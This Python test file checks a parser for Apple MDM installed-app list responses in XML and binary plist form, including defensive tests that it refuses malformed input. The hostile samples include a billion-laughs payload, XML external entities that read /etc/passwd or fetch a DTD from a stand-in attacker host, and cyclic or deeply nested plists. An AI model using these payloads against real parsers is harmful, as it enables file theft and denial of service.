"""Apple MDM `InstalledApplicationList` responses: the documented shapes, user enrollment, hostile property lists."""

from __future__ import annotations

import copy
import datetime as dt
import io
import plistlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appban.catalog import Catalog
from appban.errors import InvalidInput
from appban.inventory import apple_mdm
from appban.inventory.apple_mdm import APPLE_MDM, AppleMdmFormat
from appban.inventory.interface import DeviceReport, ReportDefaults, Visibility
from appban.model import App, Platform

from . import support

SOURCE = "responses.plist"
OBSERVED = dt.datetime(2023, 3, 15, 9, 30, tzinfo=dt.UTC)
DEFAULTS = ReportDefaults(observed_at=OBSERVED)
CATALOG: Catalog = support.CATALOG

# A device enrollment's answer as an iPhone sends it (keys and types per Apple's InstalledApplicationListResponse
# and InstalledApplicationListItem; the DOCTYPE is the one every Apple property list carries).
IOS_RESPONSE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
    <key>CommandUUID</key>
    <string>0001_InstalledApplicationList</string>
    <key>InstalledApplicationList</key>
    <array>
        <dict>
            <key>AdHocCodeSigned</key>
            <false/>
            <key>AppStoreVendable</key>
            <true/>
            <key>BetaApp</key>
            <false/>
            <key>BundleSize</key>
            <integer>1036288</integer>
            <key>DeviceBasedVPP</key>
            <false/>
            <key>DynamicSize</key>
            <integer>8192</integer>
            <key>ExternalVersionIdentifier</key>
            <integer>856765490</integer>
            <key>HasUpdateAvailable</key>
            <false/>
            <key>Identifier</key>
            <string>com.zhiliaoapp.musically</string>
            <key>Installing</key>
            <false/>
            <key>IsAppClip</key>
            <false/>
            <key>IsValidated</key>
            <true/>
            <key>Name</key>
            <string>TikTok</string>
            <key>ShortVersion</key>
            <string>28.5.0</string>
            <key>Version</key>
            <string>285006</string>
        </dict>
        <dict>
            <key>BundleSize</key>
            <integer>27353088</integer>
            <key>DynamicSize</key>
            <integer>16384</integer>
            <key>Identifier</key>
            <string>com.google.chrome.ios</string>
            <key>Name</key>
            <string>Chrome</string>
            <key>ShortVersion</key>
            <string>19.1084.60</string>
            <key>Version</key>
            <string>19.0.1084.60</string>
        </dict>
    </array>
    <key>Status</key>
    <string>Acknowledged</string>
    <key>UDID</key>
    <string>00008030-001A2D3C0E12802E</string>
</dict>
</plist>
"""


def response(**changes: Any) -> dict[str, Any]:
    value: dict[str, Any] = plistlib.loads(IOS_RESPONSE)
    value.update(changes)
    return value


def read(data: bytes, defaults: ReportDefaults = DEFAULTS, fmt: AppleMdmFormat = APPLE_MDM,
         ) -> list[DeviceReport]:
    return support.read(fmt, data, SOURCE, defaults)


def refused(data: bytes, *fragments: str, defaults: ReportDefaults = DEFAULTS,
            fmt: AppleMdmFormat = APPLE_MDM) -> InvalidInput:
    """The file is refused with one InvalidInput naming the file and every fragment; nothing else escapes."""
    return support.refused(lambda: read(data, defaults, fmt), SOURCE, *fragments)


def binary(value: Any) -> bytes:
    return plistlib.dumps(value, fmt=plistlib.FMT_BINARY)


def xml(value: Any) -> bytes:
    return plistlib.dumps(value, fmt=plistlib.FMT_XML)


# --- the documented shapes -----------------------------------------------------------------------------


def test_a_device_enrollment_lists_every_app_it_sees() -> None:
    (report,) = read(IOS_RESPONSE)
    assert report.device_id == "00008030-001A2D3C0E12802E"
    assert report.platform is Platform.IOS
    assert report.observed_at == OBSERVED
    assert report.visibility is Visibility.FULL
    assert [(a.app, a.name, a.version) for a in report.apps] == [
        (App(Platform.IOS, "com.zhiliaoapp.musically"), "TikTok", "28.5.0"),
        (App(Platform.IOS, "com.google.chrome.ios"), "Chrome", "19.1084.60"),
    ]
    assert report.where.source == SOURCE


def test_the_same_response_as_binary_plist_gives_the_same_report() -> None:
    as_binary = binary(plistlib.loads(IOS_RESPONSE))
    assert as_binary.startswith(b"bplist00")
    assert read(as_binary) == read(IOS_RESPONSE)


def test_a_user_enrollment_is_named_by_its_enrollment_id_and_sees_managed_apps_only() -> None:
    value = response(EnrollmentID="8C6C5D1E-4B7A-4C3E-9F1D-2A6B0E7C9D21", EnrollmentUserID="F1E2D3C4-B5A6")
    del value["UDID"]
    for data in (xml(value), binary(value)):
        (report,) = read(data)
        assert report.device_id == "8C6C5D1E-4B7A-4C3E-9F1D-2A6B0E7C9D21"
        assert report.visibility is Visibility.MANAGED_ONLY


def test_a_request_for_managed_apps_only_makes_the_report_partial() -> None:
    asked = {"RequestType": "InstalledApplicationList", "ManagedAppsOnly": True}
    (report,) = read(xml(response(Command=asked)))
    assert report.visibility is Visibility.MANAGED_ONLY
    (report,) = read(xml(response(Command={"RequestType": "InstalledApplicationList", "ManagedAppsOnly": False})))
    assert report.visibility is Visibility.FULL


def test_a_request_limited_to_some_identifiers_is_not_an_inventory() -> None:
    asked = {"RequestType": "InstalledApplicationList", "Identifiers": ["com.zhiliaoapp.musically"]}
    refused(xml(response(Command=asked)), "`Identifiers`", "not an inventory")


def test_the_response_to_another_command_is_refused() -> None:
    refused(xml(response(Command={"RequestType": "DeviceInformation"})), "`RequestType`", "DeviceInformation")
    other = response(QueryResponses={"DeviceName": "iPhone"})
    del other["InstalledApplicationList"]
    refused(xml(other), "`InstalledApplicationList` is missing", "InstalledApplicationList command")


def test_a_file_may_hold_several_responses() -> None:
    second = response(UDID="00008101-000A1B2C3D4E5F60", InstalledApplicationList=[])
    reports = read(xml([response(), second]))
    assert [r.device_id for r in reports] == ["00008030-001A2D3C0E12802E", "00008101-000A1B2C3D4E5F60"]
    assert reports[1].apps == ()
    assert read(binary([response(), second])) == reports
    assert read(xml([])) == []


def test_an_error_in_the_second_response_names_it() -> None:
    second = response(UDID="00008101-000A1B2C3D4E5F60", InstalledApplicationList=[{"Name": "No id"}])
    refused(xml([response(), second]), "response 2 (UDID 00008101-000A1B2C3D4E5F60)",
            "InstalledApplicationList[0]", "`Identifier` is missing")


def test_a_device_answering_twice_alike_is_read_once_and_differently_is_refused() -> None:
    assert len(read(xml([response(), response(CommandUUID="again")]))) == 1
    changed = response(InstalledApplicationList=[{"Identifier": "com.example.a"}])
    refused(xml([response(), changed]), "response 2 (UDID 00008030-001A2D3C0E12802E)", "`UDID`",
            "listed again with different data", "first as response 1")


@pytest.mark.parametrize("status", ["NotNow", "Error", "Idle", "CommandFormatError", "Later"])
def test_only_an_acknowledged_response_lists_apps(status: str) -> None:
    refused(xml(response(Status=status)), "`Status`", repr(status), "Acknowledged")


def test_an_error_response_says_what_the_device_said() -> None:
    chain = [{"ErrorCode": 12021, "ErrorDomain": "MCMDMErrorDomain",
              "LocalizedDescription": "The device is locked", "USEnglishDescription": "The device is locked"}]
    refused(xml(response(Status="Error", ErrorChain=chain)), "The device is locked")


def test_the_report_time_comes_from_the_defaults() -> None:
    refused(IOS_RESPONSE, "does not say when", "--observed-at", defaults=ReportDefaults())
    (report,) = read(IOS_RESPONSE, ReportDefaults(observed_at=dt.datetime(2023, 3, 15, 10, 30)))
    assert report.observed_at == dt.datetime(2023, 3, 15, 10, 30, tzinfo=dt.UTC)
    cet = dt.timezone(dt.timedelta(hours=1))
    (report,) = read(IOS_RESPONSE, ReportDefaults(observed_at=dt.datetime(2023, 3, 15, 10, 30, tzinfo=cet)))
    assert report.observed_at == OBSERVED
    assert report.observed_at.tzinfo is dt.UTC


def test_the_platform_is_the_formats_own() -> None:
    (report,) = read(IOS_RESPONSE, fmt=AppleMdmFormat(Platform.IPADOS))
    assert report.platform is Platform.IPADOS
    assert {a.app.platform for a in report.apps} == {Platform.IPADOS}
    with pytest.raises(ValueError, match="Apple MDM"):
        AppleMdmFormat(Platform.ANDROID)


def test_macos_entries_without_identifier_are_skipped_but_ios_ones_are_refused() -> None:
    apps = [{"Name": "helper tool", "Version": "1.0"}, {"Identifier": "com.apple.Safari", "Name": "Safari"}]
    (report,) = read(xml(response(InstalledApplicationList=apps)), fmt=AppleMdmFormat(Platform.MACOS))
    assert [a.app for a in report.apps] == [App(Platform.MACOS, "com.apple.Safari")]
    refused(xml(response(InstalledApplicationList=apps)), "InstalledApplicationList[0]", "`Identifier` is missing")


def test_apps_that_never_arrived_are_left_out_and_arriving_ones_kept() -> None:
    apps = [{"Identifier": "com.example.failed", "DownloadFailed": True},
            {"Identifier": "com.example.cancelled", "DownloadCancelled": True},
            {"Identifier": "com.zhiliaoapp.musically", "Installing": True, "DownloadWaiting": True},
            {"Identifier": "com.example.fine", "DownloadFailed": False}]
    (report,) = read(xml(response(InstalledApplicationList=apps)))
    assert [a.app.identifier for a in report.apps] == ["com.zhiliaoapp.musically", "com.example.fine"]


def test_an_app_listed_twice_counts_once() -> None:
    apps = [{"Identifier": "com.example.a", "Name": "first"}, {"Identifier": "com.example.a", "Name": "second"}]
    (report,) = read(xml(response(InstalledApplicationList=apps)))
    assert [(a.app.identifier, a.name) for a in report.apps] == [("com.example.a", "first")]


def test_version_falls_back_to_the_bundle_version() -> None:
    (report,) = read(xml(response(InstalledApplicationList=[{"Identifier": "com.example.a", "Version": "42"}])))
    assert report.apps[0].version == "42"


# --- wrong types and bad values --------------------------------------------------------------------------


@pytest.mark.parametrize(("changes", "fragments"), [
    ({"UDID": 12345}, ["`UDID`", "<string>", "<integer>"]),
    ({"UDID": None}, ["`UDID` is missing", "EnrollmentID"]),
    ({"EnrollmentID": ["a"]}, ["`EnrollmentID`"]),
    ({"Status": 1}, ["`Status`"]),
    ({"Status": None}, ["`Status` is missing"]),
    ({"InstalledApplicationList": {"Identifier": "com.example.a"}}, ["`InstalledApplicationList` must be a list"]),
    ({"InstalledApplicationList": ["com.example.a"]}, ["InstalledApplicationList[0]", "expected an object"]),
    ({"InstalledApplicationList": [{"Identifier": b"com.example.a"}]}, ["`Identifier`", "<data>"]),
    ({"InstalledApplicationList": [{"Identifier": "com.example.a", "Name": OBSERVED.replace(tzinfo=None)}]},
     ["`Name`", "<date>"]),
    ({"InstalledApplicationList": [{"Identifier": "com.example.a", "DownloadFailed": "yes"}]},
     ["`DownloadFailed`", "boolean"]),
    ({"InstalledApplicationList": [{"Identifier": "not a bundle id"}]}, ["not a valid ios app identifier"]),
    ({"InstalledApplicationList": [{"Identifier": "x" * 5000}]}, ["`Identifier` is longer than"]),
    ({"Command": ["InstalledApplicationList"]}, ["Command", "expected an object"]),
    ({"Command": {"ManagedAppsOnly": "true"}}, ["`ManagedAppsOnly`", "boolean"]),
])
def test_wrong_types_are_refused_naming_the_field(changes: dict[str, Any], fragments: list[str]) -> None:
    value = response()
    for key, new in changes.items():
        if new is None:
            del value[key]
        else:
            value[key] = new
    for data in (xml(value), binary(value)):
        refused(data, "response", *fragments)


def test_too_many_apps_are_refused() -> None:
    apps = [{"Identifier": f"com.example.a{i}"} for i in range(20_001)]
    refused(binary(response(InstalledApplicationList=apps)), "`InstalledApplicationList` lists 20001 entries")


@pytest.mark.parametrize("data", [
    b"",
    b"   \n",
    b'{"UDID": "json, not a plist"}',
    b"\x00\x01\x02garbage",
    b"bplist00",
    b"bplist00" + bytes(40),
    b"<plist version='1.0'><dict><key>UDID</key>",
    b"<plist version='1.0'><string>&undefined;</string></plist>",
    b"<plist version='1.0'><integer>" + b"9" * 10_000 + b"</integer></plist>",
    b"<plist version='1.0'><dict><key>UDID</key><string>a</string><key>Status</key></dict></plist>",
    b"<plist version='1.0'><string>just text</string></plist>",
])
def test_what_is_not_a_response_is_refused(data: bytes) -> None:
    refused(data)


def test_a_truncated_binary_plist_is_refused() -> None:
    data = binary(response())
    for cut in range(0, len(data), max(1, len(data) // 50)):
        refused(data[:cut])


# --- hostile property lists ---------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE plist [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<plist version="1.0"><dict><key>UDID</key><string>&lol9;</string></dict></plist>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE plist [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<plist version="1.0"><dict><key>UDID</key><string>&secret;</string></dict></plist>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE plist [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
<plist version="1.0"><string>a</string></plist>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_this_pythons_plistlib_itself_refuses_entity_declarations(data: bytes) -> None:
    """The guard in apple_mdm does not rely on it, but the assumption is checked here."""
    with pytest.raises(plistlib.InvalidFileException, match="entity declarations"):
        plistlib.loads(data, fmt=plistlib.FMT_XML)


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_entity_declarations_are_refused(data: bytes) -> None:
    refused(data, "XML entities")


def test_entity_declarations_in_utf16_are_refused_too() -> None:
    data = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    refused(data.decode().encode("utf-16"), "not a valid XML property list")


def test_an_external_dtd_is_never_fetched() -> None:
    data = IOS_RESPONSE.replace(b'"http://www.apple.com/DTDs/PropertyList-1.0.dtd"', b'"file:///etc/passwd"')
    (report,) = read(data)
    assert report.device_id == "00008030-001A2D3C0E12802E"


def test_deeply_nested_xml_is_refused_quickly() -> None:
    depth = 200_000
    nested = b"<array>" * depth + b"</array>" * depth
    data = IOS_RESPONSE.replace(b"<key>InstalledApplicationList</key>\n    <array>",
                                b"<key>InstalledApplicationList</key>\n    <array>" + nested + b"\n")
    refused(data, "InstalledApplicationList[0]", "expected an object")


def test_a_file_over_the_size_cap_is_refused_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    assert apple_mdm.MAX_PLIST_BYTES == 64 * 1024 * 1024
    monkeypatch.setattr(apple_mdm, "MAX_PLIST_BYTES", 1024)
    refused(xml(response(InstalledApplicationList=[{"Identifier": f"com.example.a{i}"} for i in range(100)])),
            "larger than")


def test_an_endless_stream_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apple_mdm, "MAX_PLIST_BYTES", 1024 * 1024)
    with support.deadline(10), pytest.raises(InvalidInput, match="larger than"):
        list(APPLE_MDM.read(io.BufferedReader(support.Endless(b"\x20")), SOURCE, CATALOG, DEFAULTS))


def bplist(objects: list[bytes], top: int = 0) -> bytes:
    """A binary property list built by hand (2-byte references, 4-byte offsets), to express what plistlib's
    writer never produces: cycles, shared containers, absurd nesting."""
    body = b"bplist00"
    offsets = []
    for item in objects:
        offsets.append(len(body))
        body += item
    table = b"".join(offset.to_bytes(4, "big") for offset in offsets)
    trailer = (bytes(6) + bytes([4, 2]) + len(objects).to_bytes(8, "big") + top.to_bytes(8, "big")
               + len(body).to_bytes(8, "big"))
    return body + table + trailer


def b_array(*refs: int) -> bytes:
    assert len(refs) < 15
    return bytes([0xA0 | len(refs)]) + b"".join(ref.to_bytes(2, "big") for ref in refs)


def b_dict(pairs: list[tuple[int, int]]) -> bytes:
    assert len(pairs) < 15
    return (bytes([0xD0 | len(pairs)]) + b"".join(k.to_bytes(2, "big") for k, _ in pairs)
            + b"".join(v.to_bytes(2, "big") for _, v in pairs))


def b_ascii(text: str) -> bytes:
    assert len(text) < 15
    return bytes([0x50 | len(text)]) + text.encode("ascii")


def shared_response_plist(copies: int) -> bytes:
    """A top-level array whose every element is the same response dictionary: each copy costs 2 bytes."""
    objects = [
        b_array(*([1] * copies)),                                       # 0: [response, response, ...]
        b_dict([(2, 3), (4, 5), (6, 7)]),                               # 1: the response
        b_ascii("UDID"), b_ascii("D1"), b_ascii("Status"), b_ascii("Acknowledged"),
        bytes([0x5F, 0x10, 24]) + b"InstalledApplicationList",          # 6
        b_array(8),                                                     # 7
        b_dict([(9, 10)]), b_ascii("Identifier"), b_ascii("com.example.a"),
    ]
    return bplist(objects)


def test_the_hand_built_response_reads() -> None:
    data = shared_response_plist(1)
    (report,) = read(data)
    assert report.device_id == "D1"
    assert [a.app.identifier for a in report.apps] == ["com.example.a"]


def test_shared_references_are_refused() -> None:
    refused(shared_response_plist(10), "response 2", "several places")


def test_a_reference_cycle_is_refused() -> None:
    # the app list contains itself
    objects = [
        b_dict([(1, 2), (3, 4), (5, 6)]),
        b_ascii("UDID"), b_ascii("D1"), b_ascii("Status"), b_ascii("Acknowledged"),
        bytes([0x5F, 0x10, 24]) + b"InstalledApplicationList",
        b_array(6),
    ]
    refused(bplist(objects), "response (UDID D1)")
    # the top level array contains itself
    refused(bplist([b_array(0, 0)]), "response 1")
    # a response whose value is the response
    objects = [b_dict([(1, 0), (2, 3)]), b_ascii("Command"), b_ascii("Status"), b_ascii("Acknowledged")]
    refused(bplist(objects))


def test_deeply_nested_binary_is_refused() -> None:
    depth = 20_000
    refused(bplist([b_array(index + 1) for index in range(depth - 1)] + [b_array()]), "nests too deeply")


def test_an_absurd_object_count_is_refused() -> None:
    trailer = bytes(6) + bytes([1, 1]) + (2**63).to_bytes(8, "big") + bytes(8) + (8).to_bytes(8, "big")
    refused(b"bplist00" + trailer, "binary property list")


# --- properties ---------------------------------------------------------------------------------------------

texts = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)
scalars = st.one_of(
    texts,
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.booleans(),
    st.floats(allow_nan=False),
    st.binary(max_size=20),
    st.datetimes(min_value=dt.datetime(1971, 1, 1), max_value=dt.datetime(2100, 1, 1)),
)
plist_values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                             st.dictionaries(texts, inner, max_size=4)),
                            max_leaves=12)
RESPONSE_KEYS = ["UDID", "EnrollmentID", "EnrollmentUserID", "Status", "CommandUUID", "InstalledApplicationList",
                 "ErrorChain", "Command", "NotOnConsole"]
ITEM_KEYS = ["Identifier", "Name", "ShortVersion", "Version", "Installing", "IsValidated", "BundleSize",
             "DownloadFailed", "DownloadCancelled", "IsAppClip", "ExternalVersionIdentifier"]
FAST = support.fast()


def read_or_refuse(data: bytes, fmt: AppleMdmFormat = APPLE_MDM) -> list[DeviceReport] | None:
    return support.read_or_refuse(lambda: read(data, fmt=fmt), SOURCE)


@FAST
@given(key=st.sampled_from(RESPONSE_KEYS), value=plist_values, as_binary=st.booleans())
def test_any_value_for_a_response_key_is_read_or_refused(key: str, value: object, as_binary: bool) -> None:
    document = response(**{key: value})
    read_or_refuse(binary(document) if as_binary else xml(document))


@FAST
@given(key=st.sampled_from(ITEM_KEYS), value=plist_values, as_binary=st.booleans(),
       platform=st.sampled_from([Platform.IOS, Platform.MACOS]))
def test_any_value_for_an_app_key_is_read_or_refused(key: str, value: object, as_binary: bool,
                                                      platform: Platform) -> None:
    document = response()
    document["InstalledApplicationList"][0][key] = value
    read_or_refuse(binary(document) if as_binary else xml(document), AppleMdmFormat(platform))


@FAST
@given(document=plist_values, as_binary=st.booleans())
def test_any_property_list_is_read_or_refused(document: object, as_binary: bool) -> None:
    read_or_refuse(binary(document) if as_binary else xml(document))


@FAST
@given(data=st.data())
def test_corrupted_binary_plists_are_refused_or_read(data: st.DataObject) -> None:
    read_or_refuse(support.corrupted(data, binary([response(), response(UDID="D2")]), start=8, cut=False))


@FAST
@given(data=st.data())
def test_corrupted_xml_plists_are_refused_or_read(data: st.DataObject) -> None:
    read_or_refuse(support.corrupted(data, IOS_RESPONSE, cut=False))


bundle_ids = st.from_regex(r"[A-Za-z0-9-]{1,10}(\.[A-Za-z0-9-]{1,10}){1,3}", fullmatch=True)


@FAST
@given(devices=st.lists(st.lists(bundle_ids, max_size=15), min_size=1, max_size=5), as_binary=st.booleans(),
       user_enrollment=st.booleans())
def test_valid_responses_round_trip(devices: list[list[str]], as_binary: bool, user_enrollment: bool) -> None:
    documents = []
    for index, identifiers in enumerate(devices):
        document = copy.deepcopy(response(InstalledApplicationList=[
            {"Identifier": identifier, "Name": f"App {n}", "ShortVersion": "1.0"}
            for n, identifier in enumerate(identifiers)]))
        if user_enrollment:
            del document["UDID"]
            document["EnrollmentID"] = f"enrollment-{index}"
        else:
            document["UDID"] = f"udid-{index}"
        documents.append(document)
    reports = read(binary(documents) if as_binary else xml(documents))
    assert len(reports) == len(devices)
    for report, identifiers in zip(reports, devices, strict=True):
        assert [a.app.identifier for a in report.apps] == list(dict.fromkeys(identifiers))
        assert report.visibility is (Visibility.MANAGED_ONLY if user_enrollment else Visibility.FULL)
